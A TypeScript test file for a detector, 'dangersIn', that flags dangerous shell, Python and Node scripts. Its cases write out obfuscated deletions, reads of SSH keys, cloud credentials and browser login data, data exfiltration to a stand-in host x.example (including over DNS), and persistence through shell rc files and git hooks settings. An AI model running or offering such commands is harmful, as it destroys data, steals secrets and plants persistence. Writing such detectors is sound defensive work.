import { expect, test } from 'vitest';
import type { Interpreter } from '../../../src/contract/scripts.ts';
import { dangersIn } from './noticing.ts';

type Case = [interpreter: Interpreter, script: string, expected: string];

test.each<Case>([
  ['sh', `perl -e 'unlink glob "~/Papers/*"'`, 'deletes: deletes ~/Papers/*'],
  ['sh', '{rm,-rf,~/Papers}', 'deletes: deletes ~/Papers'],
  ['sh', 'tar cf /dev/null x --checkpoint-action=exec="rm -rf papers"', 'deletes: deletes papers'],
  ['sh', "ssh -o ProxyCommand='rm -rf papers' host.example", 'deletes: deletes papers'],
  ['sh', '/bin/r? -rf papers', 'hides: runs a program whose name it works out while it runs (/bin/r?)'],
  ['python', 'for p in Path.home().rglob("*.docx"):\n    p.unlink()', 'deletes: deletes *.docx'],
  ['python', 'import os\ngetattr(os, "rem" + "ove")("ledger.db")', 'deletes: deletes ledger.db'],
  ['node', 'for (const f of fs.readdirSync("/srv/a")) fs["unlink" + "Sync"](f)', 'deletes: deletes /srv/a'],
  ['node', 'import { rm } from "node:fs/promises"\nawait rm("papers")', 'deletes: deletes papers'],
])('deletion by %s: %s', (interpreter, script, expected) => {
  expect(dangersIn(script, { interpreter })).toContain(expected);
});

test.each<Case>([
  ['sh', 'cat ~/.s*h/id_*', 'credentials: reads ~/.s*h/id_* (keys and credentials)'],
  ['sh', 'cp /home/ann/.aw[s]/cred* /tmp', 'credentials: reads /home/ann/.aw[s]/cred* (keys and credentials)'],
  [
    'python',
    'for k, v in os.environ.items(): print(k)',
    'credentials: reads all variables of the environment, which can hold keys (os.environ.items)',
  ],
  [
    'python',
    'print((Path.home() / ".ssh" / "id_ed25519").read_text())',
    'credentials: reads .ssh/id_ed25519 (keys and credentials)',
  ],
  [
    'python',
    'sqlite3.connect(os.path.join(home, ".config", "google-chrome", "Default", "Login Data"))',
    'credentials: reads .config/google-chrome/Default/Login Data (a browser profile, which holds passwords and sessions)',
  ],
  [
    'node',
    'const at = path.join(os.homedir(), ".aws", "credentials")',
    'credentials: uses .aws/credentials (keys and credentials)',
  ],
])('credentials by %s: %s', (interpreter, script, expected) => {
  expect(dangersIn(script, { interpreter })).toContain(expected);
});

test.each<Case>([
  ['sh', 'tar cz ~/Papers | ssh eve@x.example "cat > a"', 'sends: sends the output of "tar cz ~/Papers" to x.example'],
  ['sh', 'cp -r ~/Papers ~/Dropbox/', 'sends: copies ~/Papers to ~/Dropbox/, which is sent to other computers'],
  [
    'sh',
    'mv a.db /media/ann/stick',
    'sends: moves a.db to /media/ann/stick, a disk that can be taken away, or that other computers use',
  ],
  ['python', 'urllib.request.urlopen("https://x.example/u", data=text)', 'sends: sends data to x.example'],
  [
    'python',
    'c = http.client.HTTPSConnection("x.example")\nc.request("POST", "/u", text)',
    'sends: sends data to x.example',
  ],
  ['python', 'requests.get("https://x.example/?d=" + text)', 'sends: sends data in an address of x.example'],
  ['python', 'socket.gethostbyname(f"{piece}.x.example")', 'sends: sends data in the network name {piece}.x.example'],
  [
    'python',
    'boto3.client("s3").upload_file("notes.txt", "bucket", "key")',
    'sends: uploads s3, notes.txt, bucket, key',
  ],
  ['node', 'await fetch(`https://x.example/?d=$\u007btext}`)', 'sends: sends data in an address of x.example'],
  [
    'node',
    'dns.lookup(`$\u007bpiece}.x.example`, done)',
    'sends: sends data in the network name $\u007bpiece}.x.example',
  ],
])('exfiltration by %s: %s', (interpreter, script, expected) => {
  expect(dangersIn(script, { interpreter })).toContain(expected);
});

test.each<Case>([
  ['sh', 'newtool --output ~/.bashrc', 'persists: writes ~/.bashrc, which runs each time a shell or a session starts'],
  ['sh', 'gpg -d -o ~/.zshrc x.gpg', 'persists: writes ~/.zshrc, which runs each time a shell or a session starts'],
  [
    'sh',
    'git -c user.name=restore config core.hooksPath x',
    'persists: changes the setting core.hooksPath of git, by which it starts or uses other programs',
  ],
  ['sh', 'echo x >> ~/.vimrc', 'persists: adds to ~/.vimrc, from which a program starts commands when it starts'],
  [
    'sh',
    'systemctl --user set-environment A=/tmp/x.so',
    'persists: changes the settings of programs that start later (systemctl --user set-environment A=/tmp/x.so)',
  ],
  [
    'sh',
    'git config --global core.fsmonitor ./x',
    'persists: changes the setting core.fsmonitor of git, by which it starts or uses other programs',
  ],
  [
    'python',
    'subprocess.Popen(["python3", "x.py"], start_new_session=True)',
    'persists: starts a program that goes on after the script (subprocess.Popen: python3 x.py)',
  ],
  [
    'node',
    'spawn("node", ["x.js"], { detached: true })',
    'persists: starts a program that goes on after the script (spawn: node x.js)',
  ],
  [
    'node',
    'fs.writeFileSync(path.join(os.homedir(), ".config", "autostart", "a.desktop"), text)',
    'persists: overwrites .config/autostart/a.desktop, which starts programs at each login',
  ],
])('persistence by %s: %s', (interpreter, script, expected) => {
  expect(dangersIn(script, { interpreter })).toContain(expected);
});

test.each<[script: string, grave: RegExp]>([
  ['git --git-dir .git config core.hooksPath x', /^persists: changes the setting core\.hooksPath/u],
  ['crontab -- -r', /^persists: makes programs run/u],
  ['openssl enc -aes-256-cbc -k " -d " -in a -out b', /^encrypts:/u],
  ['openssl enc -aes-256-cbc -k -d -in a -out b', /^encrypts:/u],
  ['gpg -c --comment --delete-keys a', /^encrypts:/u],
  ['aws s3 cp a.db s3://box/a --metadata delete', /^sends:/u],
  ['gh api x --method delete -f a=b', /^sends:/u],
  ['rclone copy farm box:farm', /^sends:/u],
  ['xinput test-xi2 --root set-prop', /^records:/u],
  ['systemctl --user --machine x enable y', /^persists:/u],
  ['docker --context rm run --privileged x', /^protection:/u],
  ['xattr -w -d com.apple.quarantine a', /^protection:/u],
])('an argument that looks like another command hides nothing: %s', (script, grave) => {
  expect(dangersIn(script)).toContainEqual(expect.stringMatching(grave));
});

test.each<[Interpreter, string]>([
  ['sh', 'cat *.txt notes/*.md'],
  ['sh', 'cat */*.json'],
  ['sh', 'rm=1; echo {a,b}'],
  ['sh', 'cp a.txt backup/'],
  ['sh', 'printf "%s\\n" "exec=1"'],
  ['python', 'for row in rows:\n    print(row)'],
  ['python', 'table.lookup("name.first.last")'],
  ['python', 'app.request("settings")'],
  ['python', 'requests.get("https://x.example/data.json")'],
  ['node', 'const table = { rm: 1 }; table["rm"]'],
  ['node', 'const { join } = require("node:path"); join("a", "b")'],
])('no grave danger is noted by %s: %s', (interpreter, script) => {
  const grave = /^(?:deletes|credentials|sends|persists|hides|protection):/u;
  expect(dangersIn(script, { interpreter }).filter((each) => grave.test(each))).toEqual([]);
});
